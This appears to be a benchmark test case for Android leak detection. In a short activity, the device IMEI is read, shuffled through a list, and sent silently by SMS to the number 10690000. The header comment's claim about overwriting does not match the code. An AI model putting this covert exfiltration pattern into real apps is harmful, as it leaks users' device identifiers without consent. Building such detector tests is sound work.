// about       Two elements are swapped and then all but one are overwritten; the value stays.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    List<String> list = new ArrayList<String>(Collections.nCopies(3, "none"));
    list.set(0, phone.getDeviceId());
    Collections.swap(list, 0, 2);
    SmsManager.getDefault().sendTextMessage("10690000", null, list.get(2), null, null);
  }
}
